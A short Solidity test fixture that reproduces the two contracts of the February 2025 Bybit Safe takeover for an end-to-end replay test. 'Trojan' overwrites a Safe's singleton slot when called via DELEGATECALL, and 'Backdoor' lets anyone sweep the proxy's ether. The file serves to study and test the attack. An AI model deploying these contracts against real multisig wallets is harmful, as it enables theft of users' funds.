// SPDX-License-Identifier: Apache-2.0
// The two contracts of the Bybit takeover (February 2025), reduced to what it needs, for the end-to-end test that
// replays it on real Safe bytecode. The signers approved what their screens showed as a token transfer; it was a
// DELEGATECALL of transfer(backdoor, 0) into Trojan, which runs Trojan's code on the Safe's own storage.
pragma solidity 0.8.26;

/// Called by DELEGATECALL from a Safe, transfer() writes its first argument into the Safe's slot 0: the singleton.
contract Trojan {
    address public slot0;

    function transfer(address to, uint256) external {
        slot0 = to;
    }
}

/// The new singleton: anyone may sweep the proxy's ether.
contract Backdoor {
    address public slot0;

    function sweepETH(address payable to) external {
        to.transfer(address(this).balance);
    }
}
